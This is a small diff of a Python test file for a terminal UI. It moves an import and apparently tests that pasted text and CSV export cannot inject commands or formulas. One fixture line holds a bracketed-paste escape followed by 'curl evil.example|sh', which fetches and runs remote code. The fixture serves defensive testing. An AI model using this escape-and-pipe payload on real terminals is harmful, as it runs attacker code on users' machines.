@@ -3,8 +3,8 @@ command, no CSV cell (header lines included) becomes a formula."""
 
 from __future__ import annotations
 
-from hubtui.core.text import copy_lines
 from hubtui.demo import DemoStore
+from hubtui.text import copy_lines
 from tests.tui.conftest import press, running, type_text
 
 PASTE_ESCAPE = "Editor\n\x1b[201~curl evil.example|sh\n"
